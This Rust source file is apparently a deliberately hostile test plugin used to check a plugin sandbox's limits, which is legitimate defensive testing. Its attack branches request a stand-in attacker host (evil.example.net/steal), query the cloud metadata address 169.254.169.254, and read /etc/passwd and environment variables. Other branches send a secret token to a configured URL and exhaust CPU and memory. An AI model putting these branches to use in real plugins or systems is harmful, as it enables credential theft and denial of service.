//! A hostile plugin for the sandbox tests. `config.attack` chooses what it does when a
//! read is opened or advanced:
//!
//! - `loop`: spins forever (CPU limit);
//! - `memory`: allocates until it is stopped (memory limit);
//! - `host`: requests a host its manifest does not declare;
//! - `metadata`: requests http://169.254.169.254/ (link-local);
//! - `loopback`: requests `config.url` (a loopback address);
//! - `env_file`: reads an environment variable and a file and emits what it got;
//! - `env_vars`: lists the environment (std panics without an OS: the plugin crashes);
//! - `secret`: sends the secret `token` to `config.url` (an echo server) and logs and
//!   emits whatever comes back;
//! - `none`: behaves (one batch of one row).

use std::cell::RefCell;

use inlet_pdk::{
    BatchBuilder, CheckItem, ColumnType, Event, Guest, LogLevel, PluginError, ReadRequest,
    StreamInfo, field, http::Request, log,
};
use serde::Deserialize;

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Config {
    attack: String,
    #[serde(default)]
    url: String,
}

thread_local! {
    static CONFIG: RefCell<Option<Config>> = const { RefCell::new(None) };
    static DONE: RefCell<bool> = const { RefCell::new(false) };
}

fn fields() -> Vec<inlet_pdk::Field> {
    vec![field("what", ColumnType::Utf8, false)]
}

fn one_row(text: String) -> Result<Vec<Event>, PluginError> {
    let mut b = BatchBuilder::new(&fields());
    b.utf8(0, text)?;
    b.end_row()?;
    Ok(vec![
        Event::Batch(b.finish()),
        Event::Checkpoint("{}".into()),
    ])
}

#[inline(never)]
fn spin(seed: u64) -> u64 {
    let mut x = seed;
    loop {
        x = x.wrapping_mul(6364136223846793005).wrapping_add(1);
        if x == 42 {
            return x;
        }
    }
}

fn attack(c: &Config) -> Result<Vec<Event>, PluginError> {
    match c.attack.as_str() {
        "loop" => Ok(one_row(format!("{}", spin(c.url.len() as u64 + 7)))?),
        "memory" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                if hoard.len() == usize::MAX {
                    break;
                }
            }
            one_row(format!("{}", hoard.len()))
        }
        "host" => {
            let r = Request::get("https://evil.example.net/steal").send()?;
            one_row(format!("got {}", r.status))
        }
        "metadata" => {
            let r = Request::get("http://169.254.169.254/latest/meta-data/").send()?;
            one_row(String::from_utf8_lossy(&r.body).into_owned())
        }
        "loopback" => {
            let r = Request::get(c.url.as_str()).send()?;
            one_row(String::from_utf8_lossy(&r.body).into_owned())
        }
        "env_file" => {
            let env = std::env::var("HOME").map_err(|e| e.to_string());
            let file = std::fs::read_to_string("/etc/passwd").map_err(|e| e.to_string());
            let dir = std::env::current_dir().map_err(|e| e.to_string());
            one_row(format!("env={env:?} file={file:?} cwd={dir:?}"))
        }
        "env_vars" => {
            let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
            one_row(vars.join(","))
        }
        "secret" => {
            let r = Request::get(c.url.as_str())
                .secret_header("Authorization", "token", "Bearer ")
                .send()?;
            let body = String::from_utf8_lossy(&r.body).into_owned();
            let headers: Vec<String> = r
                .headers
                .iter()
                .map(|h| format!("{}={}", h.name, h.value))
                .collect();
            log(LogLevel::Warn, &format!("stolen body: {body}"));
            log(LogLevel::Warn, &format!("stolen headers: {headers:?}"));
            one_row(format!("{body} {headers:?}"))
        }
        "none" => one_row("fine".into()),
        other => Err(inlet_pdk::config_error(
            "attack",
            format!("unknown attack `{other}`"),
        )),
    }
}

struct RedTeam;

impl Guest for RedTeam {
    fn spec() -> String {
        r#"{"type":"object","required":["attack"],"properties":{"attack":{"type":"string"},"url":{"type":"string"}}}"#.to_string()
    }

    fn validate(config: String) -> Result<(), PluginError> {
        inlet_pdk::config::parse::<Config>(&config).map(|_| ())
    }

    fn check(_config: String) -> Result<Vec<CheckItem>, PluginError> {
        Ok(Vec::new())
    }

    fn discover(_config: String) -> Result<Vec<StreamInfo>, PluginError> {
        Ok(vec![StreamInfo {
            name: "loot".into(),
            fields: fields(),
            primary_key: Vec::new(),
            cursor_candidates: Vec::new(),
            incremental: false,
        }])
    }

    fn open(request: ReadRequest) -> Result<(), PluginError> {
        let c: Config = inlet_pdk::config::parse(&request.config)?;
        CONFIG.with(|s| *s.borrow_mut() = Some(c));
        Ok(())
    }

    fn next() -> Result<Option<Vec<Event>>, PluginError> {
        if DONE.with(|d| d.replace(true)) {
            return Ok(None);
        }
        CONFIG.with(|s| match s.borrow().as_ref() {
            Some(c) => attack(c).map(Some),
            None => Err(PluginError::Other("next before open".into())),
        })
    }
}

inlet_pdk::export_plugin!(RedTeam);
